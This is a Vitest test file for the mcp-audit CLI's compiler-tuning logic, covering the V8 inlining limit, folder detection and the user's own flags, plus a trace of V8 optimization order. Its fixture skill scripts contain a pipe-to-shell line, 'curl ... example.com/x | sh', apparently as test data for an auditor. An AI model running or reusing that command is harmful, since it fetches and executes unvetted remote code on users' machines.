// bin/compiler-tuning.cjs: TurboFan's inlining limit, set for a run that walks a folder, before any
// function of the CLI has run (a compile job that saw the flag change could abort V8), never for a
// run over named files (it would cost their start Node's code cache of its built-in modules), and
// never over the user's own choice.
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import { createRequire } from "node:module";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { NO_REGISTRY, REPO, tempDir } from "../cli/run.js";

const require = createRequire(import.meta.url);
const tuning = require("../../bin/compiler-tuning.cjs") as {
  tuneCompiler: (args: string[], options: { cwd?: string; execArgv?: string[]; env?: NodeJS.ProcessEnv; v8?: { setFlagsFromString(flags: string): void } }) => string;
  walksAFolder: (args: string[], cwd: string) => boolean;
  userDecidesInlining: (execArgv: string[], nodeOptions: string | undefined) => boolean;
  INLINING: string;
};
const BIN = path.join(REPO, "bin/mcp-audit.js");

/** A folder with a config, a skill folder and a file, for the arguments below. */
function project(): string {
  const dir = tempDir();
  fs.writeFileSync(path.join(dir, ".mcp.json"), JSON.stringify({ mcpServers: { git: { command: "uvx", args: ["mcp-server-git==2025.7.1"] } } }));
  fs.mkdirSync(path.join(dir, "skills"));
  return dir;
}

describe("which runs walk a folder", () => {
  const dir = project();
  it.each([
    [[], true, "no path: the working directory"],
    [["."], true, "the working directory, named"],
    [["skills"], true, "a folder"],
    [[".mcp.json", "skills"], true, "a file and a folder"],
    [["--format", "json"], true, "options only"],
    [["approve"], true, "a command that walks"],
    [[".mcp.json"], false, "one file"],
    [["--format", "json", ".mcp.json", "missing.json"], false, "files (and an option's value, and a missing path)"],
    [["explain", "inline-secret"], false, "explain"],
    [["--help"], false, "help"],
    [["--user"], false, "the user's config files"],
  ] as [string[], boolean, string][])("%j: %s (%s)", (args, walks) => {
    expect(tuning.walksAFolder(args, dir)).toBe(walks);
  });
});

describe("the user's own inlining flags", () => {
  it.each([
    [["--max-inlined-bytecode-size=100"], undefined, true],
    [["--max_inlined_bytecode_size=100"], undefined, true],
    [["-max-inlined-bytecode-size-cumulative=10"], undefined, true],
    [["--no-turbo-inlining"], undefined, true],
    [[], "--stack-size=900 --max-inlined-bytecode-size=10", true],
    [[], "--turbo_inlining", true],
    [["--max-old-space-size=100", "--require", "x.cjs"], "--stack-size=900", false],
    [[], undefined, false],
  ] as [string[], string | undefined, boolean][])("%j, NODE_OPTIONS %j: %s", (execArgv, nodeOptions, decides) => {
    expect(tuning.userDecidesInlining(execArgv, nodeOptions)).toBe(decides);
  });
});

describe("tuneCompiler", () => {
  const dir = project();
  const tune = (args: string[], execArgv: string[] = [], env: NodeJS.ProcessEnv = {}) => {
    const set: string[] = [];
    const flags = tuning.tuneCompiler(args, { cwd: dir, execArgv, env, v8: { setFlagsFromString: (f) => void set.push(f) } });
    return { flags, set };
  };
  it("sets the one inlining limit for a run that walks a folder, and says so (the code cache's key holds it)", () => {
    expect(tuning.INLINING).toBe("--max-inlined-bytecode-size=60");
    expect(tune(["."])).toEqual({ flags: tuning.INLINING, set: [tuning.INLINING] });
  });
  it("sets nothing for a run over named files, or when the user decides", () => {
    expect(tune([".mcp.json"])).toEqual({ flags: "", set: [] });
    expect(tune(["."], ["--max-inlined-bytecode-size=200"])).toEqual({ flags: "", set: [] });
    expect(tune(["."], [], { NODE_OPTIONS: "--no-turbo-inlining" })).toEqual({ flags: "", set: [] });
  });
});

const stdbuf = spawnSync("stdbuf", ["--version"]).status === 0;

describe.runIf(process.platform === "linux" && stdbuf)("the CLI's start, traced by V8 (--trace-opt)", () => {
  // V8 writes its traces with C's stdio, made unbuffered by stdbuf; the preload writes straight to the
  // same descriptor: the lines keep the order in which they happened.
  const preload = path.join(tempDir(), "flags.cjs");
  fs.writeFileSync(preload, `const v8 = require("node:v8"); const fs = require("node:fs"); const set = v8.setFlagsFromString;\nv8.setFlagsFromString = (f) => { fs.writeSync(1, "\\nFLAG " + f + "\\n"); return set.call(v8, f); };\n`);
  const traced = (args: string[], cwd: string) => {
    const r = spawnSync("stdbuf", ["-o0", process.execPath, "--trace-opt", "--require", preload, BIN, "--format", "json", ...args], { cwd, encoding: "utf8", env: { PATH: process.env.PATH ?? "", HOME: process.env.HOME ?? "", XDG_CACHE_HOME: process.env.XDG_CACHE_HOME ?? "", ...NO_REGISTRY }, timeout: 60_000 });
    expect([0, 1], r.stderr).toContain(r.status);
    return r.stdout.split("\n");
  };
  /** 150 skills, each with a script: enough for V8 to optimize some of the audit's functions. */
  const skills = () => {
    const dir = project();
    for (let i = 0; i < 150; i++) {
      fs.mkdirSync(path.join(dir, "skills", `s${i}`, "scripts"), { recursive: true });
      fs.writeFileSync(path.join(dir, "skills", `s${i}`, "SKILL.md"), `---\nname: s${i}\ndescription: Use when testing skill number ${i} of the tuning test.\n---\n# S${i}\n\nRun \`scripts/run.sh\`.\n`);
      fs.writeFileSync(path.join(dir, "skills", `s${i}`, "scripts", "run.sh"), `#!/bin/sh\nset -e\ncurl -fsSL https://example.com/x | sh\nrm -rf "$TMP/x"\n`);
    }
    return dir;
  };
  const optimizing = (line: string) => line.startsWith("[marking ") || line.startsWith("[compiling method ");

  it("sets the limit for a folder before V8 has marked any function for optimization, and optimizes afterwards", () => {
    const lines = traced(["."], skills());
    const flag = lines.indexOf(`FLAG ${tuning.INLINING}`);
    expect(flag).toBeGreaterThanOrEqual(0);
    expect(lines.slice(0, flag).filter(optimizing)).toEqual([]);
    expect(lines.slice(flag).filter(optimizing).length).toBeGreaterThan(0); // the trace works: it would show one before
  });

  it("sets no flag for a run over named files", () => {
    const dir = project();
    const lines = traced([".mcp.json"], dir);
    expect(lines.filter((l) => l.startsWith("FLAG "))).toEqual([]);
  });
});
